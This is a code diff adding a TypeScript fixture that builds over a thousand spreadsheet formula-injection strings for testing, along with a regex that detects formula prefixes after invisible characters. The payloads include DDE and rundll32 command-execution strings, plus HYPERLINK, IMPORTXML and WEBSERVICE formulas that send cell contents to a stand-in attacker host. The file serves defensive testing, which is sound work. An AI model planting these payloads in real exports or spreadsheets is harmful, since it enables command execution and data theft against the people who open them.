@@ -1,0 +1,38 @@
+/** Texts that a spreadsheet would calculate, or run, if it took them for formulas. */
+
+const PAYLOADS = [
+  '1+1',
+  "cmd|' /C calc'!A0",
+  'HYPERLINK("https://evil.example?x="&A1,"click")',
+  'IMPORTXML("https://evil.example","//a")',
+  'WEBSERVICE("https://evil.example/"&A1)',
+  'DDE("cmd";"/C calc";"x")',
+  'SUM(A1:A9)',
+  'rundll32|"x"!A',
+  '-1',
+  '"a"',
+] as const;
+const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '=-', '+=', '@='] as const;
+const HIDDEN = [
+  '',
+  ' ',
+  '   ',
+  '\t',
+  '\r',
+  '\n',
+  '\r\n',
+  '\u00a0',
+  '\u200b',
+  '\ufeff',
+  ' \t ',
+  '\u3000',
+  '\u0001',
+] as const;
+
+/** More than a thousand. */
+export const FORMULAS: readonly string[] = HIDDEN.flatMap((hidden) =>
+  STARTS.flatMap((start) => PAYLOADS.map((payload) => hidden + start + payload)),
+);
+
+/** What they begin with, once what is not seen is gone. */
+export const FORMULA = /^[\s\p{C}\p{Z}]*[=+\-@＝＋－＠]/u;
